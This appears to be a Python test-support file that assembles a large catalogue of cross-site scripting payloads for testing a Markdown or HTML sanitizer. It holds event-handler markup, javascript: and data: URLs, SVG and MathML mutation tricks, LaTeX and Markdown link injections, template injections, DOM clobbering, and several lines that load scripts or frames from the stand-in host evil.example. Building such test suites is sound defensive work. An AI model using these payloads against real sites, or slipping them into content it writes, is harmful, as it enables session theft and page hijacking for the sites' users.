# ruff: noqa: E501 - one payload, one line
"""Ways to bring script into a page: those of `hostile.MARKUP`, one for each event that runs script, and further ones."""

from __future__ import annotations

from tests.support.hostile import MARKUP, RUN

#: An element that the event happens to, by itself or because the test hovers, focuses, plays and opens everything.
EVENTS = {
    "onanimationend": "b", "onauxclick": "b", "onbeforeinput": "input", "onbeforematch": "div hidden=until-found",
    "onbeforetoggle": "div popover", "onblur": "a href=#", "oncancel": "dialog", "oncanplay": "video", "onchange": "input",
    "onclick": "button", "oncontentvisibilityautostatechange": "p", "oncopy": "p", "oncuechange": "track default",
    "ondblclick": "p", "ondragenter": "p", "onfocusin": "a href=#", "onfocusout": "a href=#", "ongotpointercapture": "p",
    "onhashchange": "body", "oninvalid": "input required", "onkeydown": "input", "onloadstart": "video src=x",
    "onmessage": "body", "onmouseenter": "p", "onmouseover": "summary", "onpageshow": "body", "onpaste": "p",
    "onplaying": "audio", "onpointerenter": "code", "onpointerover": "td", "onpopstate": "body", "onreset": "form",
    "onresize": "body", "onscroll": "pre", "onscrollend": "pre", "onsearch": "input type=search", "onselectstart": "p",
    "onsubmit": "form", "ontimeupdate": "video", "ontouchstart": "p", "ontransitionend": "b", "onunhandledrejection": "body",
    "onvolumechange": "video", "onwheel": "math", "onwebkitanimationstart": "svg",
}  # fmt: skip
ADDRESSES = [
    f"javascript:{RUN}", f"JAVASCRIPT:{RUN}", f"\x01javascript:{RUN}", f"java\nscript:{RUN}", f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}", f"&#x6A;avascript:{RUN}", f"javascript:/*x*/{RUN}", f"javascript://x%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}", f"blob:javascript:{RUN}", "//evil.example/x", "/\\evil.example/x", "https:evil.example",
]  # fmt: skip
OTHERS = [
    "<script src=https://evil.example/x.js></script>", f"<script type=module>{RUN}</script>",
    f"<script/x>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT >", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>", f"<script\x0c>{RUN}</script>", f"\x00<script>{RUN}</script>".replace("\x00", ""),
    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><set attributeName=href to='javascript:{RUN}' /><a id=x>x</a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}>#x'></use></svg>",
    f"<svg><handler type=text/javascript>{RUN}</handler></svg>",
    f"<math href='javascript:{RUN}'><mi>x</mi></math>", f"<math><maction actiontype=statusline#{RUN}>x</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><mtext><mglyph><svg><mtext><style><path id='</style><img src=x onerror={RUN}>'></mtext></svg>",
    "<a href='x' ping='https://evil.example/'>x</a>", f"<a href=x target=_blank onclick={RUN}>x</a>",
    "<img src='x' srcset='https://evil.example/x 1x'>", "<picture><source srcset=https://evil.example/x></picture>",
    f"<video poster=javascript:{RUN} controls></video>", "<track src=https://evil.example/x.vtt default>",
    f"<table background='javascript:{RUN}'><td>x", f"<td style='background:url(javascript:{RUN})'>x",
    f"<div style='width:expression({RUN})'>x</div>", "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<iframe src='https://evil.example/'></iframe>", f"<frameset onload={RUN}>", f"<applet code=javascript:{RUN}>",
    f"<isindex formaction=javascript:{RUN} type=submit>", f"<input type=image src=x onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<dialog open onclose={RUN}>x</dialog>", f"<slot onslotchange={RUN}>x</slot>", "<object type=text/x-scriptlet data=x>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>", "<link rel=preload as=script href=//evil.example/x>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\"><script>{RUN}</script>",
    "<meta http-equiv=set-cookie content='sessionid=evil'>", f"<portal src='javascript:{RUN}'></portal>",
    f"<c.onclick onclick={RUN}>x</c>", f"<v {RUN}>x</v><00:00:01.000><script>{RUN}</script>", f"--> <script>{RUN}</script>",
    f"<ruby><rt><img src=x onerror={RUN}></rt></ruby>", f"<lang en onmouseover={RUN}>x</lang>",
    f"$\\href{{javascript:{RUN}}}{{y}} \\url{{javascript:{RUN}}}$", f'$\\class{{x" onload="{RUN}}}{{y}}$',
    f"$\\style{{background:url(javascript:{RUN})}}{{y}}$", f'$\\htmlData{{x="><script>{RUN}</script>}}{{y}}$',
    f"$\\text{{</math><script>{RUN}</script>}}$", f'$\\unicode{{"><img src=x onerror={RUN}>}}$',
    f"$\\mathrm{{&lt;img src=x onerror={RUN}&gt;}}$", f"$$\\begin{{x}}<script>{RUN}</script>\\end{{x}}$$",
    f'<https://evil.example/"onmouseover="{RUN}>', f"<javascript:{RUN}>", f"[x](<javascript:{RUN}> 'y')",
    f'[x](/ "y" onclick={RUN})', f'![" onerror="{RUN}](x.png)', f"![x](x.png \"' onerror='{RUN}\")",
    f'[![x](x" onerror="{RUN})](javascript:{RUN})', f'[a]: <javascript:{RUN}> "x"\n\n[a][a] ![a][a]',
    f"[^<script>{RUN}</script>]\n\n[^<script>{RUN}</script>]: x", f"- [ ] <input onfocus={RUN} autofocus>",
    f"~~<s onclick={RUN}>x</s>~~ ==<mark onclick={RUN}>x</mark>==", f"::: {{.note onclick={RUN}}}\nx\n:::",
    f':::"><script>{RUN}</script>\nx\n:::', f'```"><script>{RUN}</script>\nx\n```', f"~~~ {{onload={RUN}}}\nx\n~~~",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?php {RUN} ?><?xml {RUN}?>",
    f"<!DOCTYPE html [<!ENTITY x '<script>{RUN}</script>'>]>&x;", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>", f'"}};{RUN};//', f"</title></textarea></style></noscript><script>{RUN}</script>",
    f"'-{RUN}-'", f'\\";{RUN}//', f"＜script＞{RUN}＜/script＞", f"\ufeff\u200b<script\u00a0>{RUN}</script>",
    "<a id=__proto__ name=attributes href=x>x</a><form id=document><input name=cookie></form>",
]  # fmt: skip


def payloads() -> list[str]:
    found = list(MARKUP)
    found += [f"<{element} {event}={RUN} tabindex=0>x</{element.split()[0]}>" for event, element in EVENTS.items()]
    found += [f"[x]({address}) ![x]({address})" for address in ADDRESSES]
    return list(dict.fromkeys([*found, *OTHERS]))
